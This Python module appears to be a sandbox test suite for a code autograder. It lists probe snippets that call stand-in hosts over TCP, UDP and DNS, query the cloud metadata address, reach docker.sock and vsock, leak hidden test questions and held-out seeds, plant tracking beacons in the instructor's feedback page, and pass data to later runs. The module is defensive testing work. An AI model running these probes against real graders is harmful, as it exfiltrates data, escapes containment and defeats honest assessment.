"""Carrying out what was seen: by network, by files, by the learner's own feedback."""

from ..attack import Attack

NO_NETWORK = "no network but a loopback of its own"

ATTACKS = (
    Attack(
        "call_home",
        "send what it finds to the internet by TCP, UDP and DNS",
        last="""
            import socket, urllib.request
            def attempt(action):
                try:
                    print("sent", action())
                except Exception as error:
                    print(type(error).__name__)
            socket.setdefaulttimeout(0.5)
            attempt(lambda: socket.create_connection(("192.0.2.1", 443), 0.5))
            attempt(lambda: socket.create_connection(("169.254.169.254", 80), 0.5))
            attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
                b"answers", ("192.0.2.1", 53)))
            attempt(lambda: socket.getaddrinfo("answers.example.com", 80))
            attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
        """,
        stopped_by=NO_NETWORK,
        quick=True,
    ),
    Attack(
        "loopback",
        "reach a service on the grader's own machine",
        last="""
            import socket
            for address in ("127.0.0.1", "localhost", "::1", "0.0.0.0"):
                try:
                    with socket.create_connection((address, @PORT@), 0.5) as there:
                        there.send(b"lab-was-here")
                except OSError as error:
                    print(address, error)
        """,
        stopped_by="the run's loopback is its own",
    ),
    Attack(
        "unix_sockets",
        "reach a service over a Unix socket, in the file system or abstract",
        last="""
            import socket
            for address in ("@TMP@/listener", "\\0lab-listener-@PORT@", "/run/docker.sock",
                            "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
                try:
                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as there:
                        there.connect(address)
                        there.send(b"lab-was-here")
                except OSError as error:
                    print(address, error)
        """,
        stopped_by="its own view of the file system and its own network",
    ),
    Attack(
        "other_families",
        "reach out over netlink, packet and vsock sockets",
        last="""
            import socket
            for family, kind in ((17, 3), (40, 1), (16, 3), (38, 5), (31, 3)):
                try:
                    there = socket.socket(family, kind)
                    there.settimeout(0.5)
                    if family == 40:
                        there.connect((2, 22))
                        print("reached the host")
                        clean = lambda values: [v for v in values if v >= 0]
                except OSError as error:
                    print(family, error)
        """,
        stopped_by="no network of any family",
    ),
    Attack(
        "questions_in_an_error",
        "remember the hidden questions and tell them in a later error",
        wrong="keeps_everything",
        last="""
            asked = []
            def clean(values):
                asked.append(values)
                raise ValueError(f"{seed} " + str(asked)[-250:])
        """,
        stopped_by="messages of held-out runs and of hidden checks are not shown to learners",
    ),
    Attack(
        "held_out_in_outputs",
        "show the held-out parameters in every output and every file",
        last="""
            from pathlib import Path
            print("held out:", seed)
            Path("seed.txt").write_text(str(seed))
            print(sorted(globals()))
        """,
        stopped_by="only the run with the learner's own parameters is kept",
    ),
    Attack(
        "beacon",
        "have the instructor's browser call home from the feedback page",
        last="""
            from IPython.display import HTML, Image, Markdown, display
            display(HTML('<img src="https://beacon.example.com/a.png">'
                         '<link rel="stylesheet" href="https://beacon.example.com/a.css">'
                         '<style>body{background:url(https://beacon.example.com/b)}</style>'))
            display(Markdown("![x](https://beacon.example.com/c.png)"))
            display({"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg">'
                     '<image href="https://beacon.example.com/d.png"/></svg>'}, raw=True)
        """,
        stopped_by="the page's policy and the cleaning of all that a learner wrote",
    ),
    Attack(
        "next_run_told",
        "tell the next run through shared memory, locks and message queues",
        last="""
            import os
            from multiprocessing import shared_memory
            try:
                shared = shared_memory.SharedMemory("lab-was-here", create=True, size=4096)
                shared.buf[:4] = b"seen"
            except OSError as error:
                print(error)
            for path in ("/dev/shm", "/dev/mqueue", "/run/lock", "/sys/fs/cgroup", "/tmp"):
                try:
                    open(path + "/lab-was-here-told", "w").write("seen")
                except OSError as error:
                    print(error)
        """,
        stopped_by="memory, queues and folders of its own, gone with the run",
    ),
)
